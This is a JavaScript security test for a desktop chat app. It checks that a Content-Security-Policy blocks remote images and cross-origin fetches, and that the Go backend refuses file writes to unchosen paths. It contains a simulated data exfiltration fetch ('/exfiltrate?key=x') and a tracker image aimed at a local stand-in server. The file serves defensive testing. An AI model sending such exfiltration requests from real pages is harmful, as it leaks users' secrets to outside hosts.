import { test } from 'node:test'
import assert from 'node:assert/strict'
import http from 'node:http'
import { readFileSync } from 'node:fs'
import path from 'node:path'
import { openApp, shotDir } from '../lib.mjs'

// A server on another origin (another port of the same host counts): the window must never reach it.
async function foreignServer() {
  const hits = []
  const srv = http.createServer((req, res) => {
    hits.push(req.url)
    res.writeHead(200, { 'Content-Type': 'image/png', 'Access-Control-Allow-Origin': '*' })
    res.end(Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==', 'base64'))
  })
  await new Promise((r) => srv.listen(0, '127.0.0.1', r))
  return { url: `http://127.0.0.1:${srv.address().port}`, hits, close: () => srv.close() }
}

test('security: the built index.html carries the CSP; a remote image and fetch are blocked, data: images load', async () => {
  const built = readFileSync(path.resolve('../frontend/dist/index.html'), 'utf8')
  assert.match(built, /http-equiv="Content-Security-Policy"/)
  assert.match(built, /img-src 'self' data: blob:;/)
  assert.doesNotMatch(built, /script-src[^;]*unsafe-inline/)

  const foreign = await foreignServer()
  const { browser, page, errors } = await openApp()
  try {
    const r = await page.evaluate(async (base) => {
      const violations = []
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective))
      const load = (src) =>
        new Promise((resolve) => {
          const img = new Image()
          img.onload = () => resolve('loaded')
          img.onerror = () => resolve('blocked')
          img.src = src
          document.body.appendChild(img)
        })
      const remote = await load(base + '/tracker.png')
      const inline = await load('data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==')
      let fetched = 'sent'
      try {
        await fetch(base + '/exfiltrate?key=x')
      } catch {
        fetched = 'blocked'
      }
      await new Promise((r) => setTimeout(r, 200)) // violation events are queued
      return { remote, inline, fetched, violations }
    }, foreign.url)
    assert.equal(r.remote, 'blocked')
    assert.equal(r.inline, 'loaded')
    assert.equal(r.fetched, 'blocked')
    assert.ok(r.violations.includes('img-src') && r.violations.includes('connect-src'), JSON.stringify(r.violations))
    assert.deepEqual(foreign.hits, [], 'the foreign server was reached')

    // A path the save dialog never returned is refused by the Go side, whatever the page asks.
    const target = path.join(shotDir, 'not-chosen.md')
    const write = await page.evaluate((p) => window.go.desktop.ChatService.WriteTextFile(p, '# pwned').then(() => 'written', (e) => String(e)), target)
    assert.match(write, /not the path chosen in the save dialog/)
    assert.deepEqual(errors, [])
  } finally {
    await browser.close()
    foreign.close()
  }
})
